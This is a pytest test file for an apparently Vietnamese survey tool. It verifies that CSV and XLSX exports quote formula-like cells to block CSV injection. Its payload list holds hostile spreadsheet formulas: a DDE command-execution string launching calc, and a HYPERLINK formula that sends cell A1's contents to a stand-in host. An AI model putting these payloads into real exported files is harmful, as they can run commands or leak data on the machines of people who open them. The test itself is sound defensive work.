"""CSV injection (issue 15): every CSV and XLSX writer neutralises formula-like cells.

One rule (``fieldwork.cells.formula_like``); a walk over the source finds every module that
writes CSV or XLSX and fails on one that bypasses it; each product writer is then fed the
payloads and its file read back.
"""

from __future__ import annotations

import ast
import csv
import io
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

import fieldwork
from fieldwork.cells import csv_bytes, csv_cell, formula_like

PAYLOADS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")", "=cmd|' /C calc'!A0",
            "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)", "\t=1+1", "\r=1+1"]
NUMBERS = [-5, 3.25, 0, "-5", "+84905123456", "-0,5", "12", "1.5e3"]

# Files the app writes only as input for its own importers (demo data, benchmarks): never
# handed to a person, and a quote there would change what the importer reads.
INPUT_GENERATORS = {"frames/demo.py", "frames/bench.py", "imports/demo.py",
                    "imports/bench.py",  # fieldwork bench exports: real-shaped one-stop files
                    "xlsx/cli.py"}  # fieldwork bench xlsx: a workbook for the checked reader
RULE_MODULE = "cells.py"


@pytest.mark.parametrize("value", PAYLOADS)
def test_payloads_are_formula_like_and_quoted(value):
    assert formula_like(value)
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", NUMBERS + ["Tốt", "", None, "a=b", " =1"])
def test_numbers_and_plain_text_stay(value):
    assert not formula_like(value)
    assert csv_cell(value) == value


def _writers() -> dict[str, set[str]]:
    """Module (relative to fieldwork/) -> the CSV/XLSX writing calls it makes."""
    root = Path(fieldwork.__file__).parent
    out: dict[str, set[str]] = {}
    for path in root.rglob("*.py"):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        found = set()
        for node in ast.walk(tree):
            if isinstance(node, ast.Call):
                f = node.func
                name = f.attr if isinstance(f, ast.Attribute) else getattr(f, "id", "")
                if name in ("writer", "DictWriter", "Workbook", "WriteOnlyCell"):
                    found.add(name)
        if found:
            out[str(path.relative_to(root))] = found
    return out


def test_every_writer_goes_through_the_rule():
    """A module that makes a csv writer or an openpyxl workbook is the rule's own module, an
    input generator, or uses ``fieldwork.cells`` for every row it writes."""
    root = Path(fieldwork.__file__).parent
    writers = _writers()
    assert RULE_MODULE in writers  # the walk finds writers at all
    for module, calls in sorted(writers.items()):
        if module == RULE_MODULE or module in INPUT_GENERATORS:
            continue
        text = (root / module).read_text(encoding="utf-8")
        assert "csv.writer" not in text and "csv.DictWriter" not in text, (
            f"{module} writes CSV itself; use fieldwork.cells.csv_bytes/write_csv")
        assert "Workbook" not in calls or "xlsx_append" in text, (
            f"{module} builds a workbook without fieldwork.cells.xlsx_append")
        tree = ast.parse(text)
        appends = [n for n in ast.walk(tree) if isinstance(n, ast.Call)
                   and isinstance(n.func, ast.Attribute) and n.func.attr == "append"
                   and isinstance(n.func.value, ast.Name)
                   and n.func.value.id in ("ws", "cb", "sheet", "survey", "choices",
                                           "settings")]
        assert not appends, f"{module} appends worksheet rows without xlsx_append"


def _csv_cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]


def test_list_csv_writer_quotes_payloads_and_keeps_numbers():
    rows = [{"a": p, "b": n} for p, n in zip(PAYLOADS, NUMBERS, strict=False)]
    cells = _csv_cells(csv_bytes(rows, ("a", "b")))
    for p in PAYLOADS:
        assert "'" + p in cells and p not in cells
    for n in NUMBERS[:len(PAYLOADS)]:
        assert str(n) in cells


def _table(fmt_rows):
    from fieldwork.forms.spec import Question
    from fieldwork.stats.exports import build_table
    questions = [Question("q03", "text", "Góp ý")]
    sheets = [{"serial": i, "version": 1, "agency": "Sở Tư pháp", "field": "Hộ tịch",
               "source": "independent", "channel": "paper_keyed",
               "review_state": "approved", "date": date(2026, 3, 2),
               "answers": {"q03": [p]}} for i, p in enumerate(fmt_rows, 1)]
    return build_table(questions, sheets)


def test_export_csv_quotes_payloads(tmp_path):
    from fieldwork.stats.exports import write_table
    write_table(_table(PAYLOADS), "csv", tmp_path / "x.csv")
    cells = _csv_cells((tmp_path / "x.csv").read_bytes())
    for p in PAYLOADS:
        assert "'" + p in cells and p not in cells


def test_export_xlsx_keeps_payloads_as_text(tmp_path):
    from fieldwork.stats.exports import write_table
    write_table(_table(PAYLOADS), "xlsx", tmp_path / "x.xlsx")
    ws = load_workbook(tmp_path / "x.xlsx")["data"]
    col = [c.value for c in next(ws.iter_rows(max_row=1))].index("q03") + 1
    cells = [ws.cell(row=r, column=col) for r in range(2, ws.max_row + 1)]
    assert [c.value for c in cells] == PAYLOADS
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_xlsform_keeps_labels_as_text():
    from fieldwork.forms.spec import Option, Question, Questionnaire, Section
    from fieldwork.forms.xlsform import write_xlsform
    q = Questionnaire("=HYPERLINK(\"x\")", sections=[Section("s", "@SUM(1,2)", questions=[
        Question("q01", "single", "+SUM(1,2)", options=[Option("a", "-1+2"),
                                                       Option("b", "Không")])])])
    wb = load_workbook(io.BytesIO(write_xlsform(q)))
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    risky = [c for c in cells if formula_like(c.value)]
    assert {c.value for c in risky} >= {"=HYPERLINK(\"x\")", "@SUM(1,2)", "+SUM(1,2)", "-1+2"}
    assert all(c.data_type == "s" and c.quotePrefix for c in risky)


def test_xlsform_of_a_risky_form_reads_back_the_same():
    from fieldwork.forms.spec import Option, Question, Questionnaire, Section
    from fieldwork.forms.xlsform import read_xlsform, write_xlsform
    q = Questionnaire("Phiếu", sections=[Section("s", "Phần", questions=[
        Question("q01", "single", "=1+1 là bao nhiêu?",
                 options=[Option("a", "-2"), Option("b", "+SUM(1,2)")])])])
    back = read_xlsform(io.BytesIO(write_xlsform(q)))
    assert back.question("q01").text == "=1+1 là bao nhiêu?"
    assert [o.label for o in back.question("q01").options] == ["-2", "+SUM(1,2)"]
